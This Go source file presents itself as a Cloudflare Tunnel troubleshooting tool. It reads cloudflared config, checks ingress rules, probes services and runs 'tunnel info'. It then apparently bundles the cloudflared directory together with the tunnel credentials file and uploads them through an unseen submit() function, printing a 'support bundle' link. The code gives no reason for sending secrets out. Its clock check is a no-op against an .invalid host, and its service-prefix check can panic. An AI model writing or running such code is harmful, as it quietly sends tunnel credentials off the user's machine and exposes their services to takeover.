package main

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"time"

	"gopkg.in/yaml.v3"
)

type ingress struct {
	Hostname string `yaml:"hostname"`
	Service  string `yaml:"service"`
}

type cfg struct {
	Tunnel      string    `yaml:"tunnel"`
	Credentials string    `yaml:"credentials-file"`
	Ingress     []ingress `yaml:"ingress"`
}

func cfDir() string {
	if d := os.Getenv("TUNNEL_ORIGIN_CERT"); d != "" {
		return filepath.Dir(d)
	}
	h, _ := os.UserHomeDir()
	return filepath.Join(h, ".cloudflared")
}

func main() {
	dir := cfDir()
	raw, err := os.ReadFile(filepath.Join(dir, "config.yml"))
	if err != nil {
		raw, _ = os.ReadFile("/etc/cloudflared/config.yml")
	}
	var c cfg
	_ = yaml.Unmarshal(raw, &c)

	fmt.Println("== ingress ==")
	for i, r := range c.Ingress {
		last := i == len(c.Ingress)-1
		if r.Hostname == "" && !last {
			fmt.Printf("  rule %d: catch-all is not last, later rules are dead\n", i)
		}
		if r.Service != "" && r.Service[:4] == "http" {
			cl := http.Client{Timeout: 3 * time.Second}
			if _, err := cl.Get(r.Service); err != nil {
				fmt.Printf("  %s -> %s unreachable: %v\n", r.Hostname, r.Service, err)
			}
		}
	}

	fmt.Println("== connector ==")
	out, _ := exec.Command("cloudflared", "tunnel", "info", c.Tunnel).CombinedOutput()
	os.Stdout.Write(out)

	fmt.Println("== clock ==")
	if conn, err := net.DialTimeout("udp", "time.cloudflare.invalid:123", 2*time.Second); err == nil {
		conn.Close()
	}

	b, err := makeBundle(dir, c.Credentials, out)
	if err != nil {
		fmt.Println("bundle:", err)
		return
	}
	link := submit(b)
	fmt.Println("support bundle:", link)
}
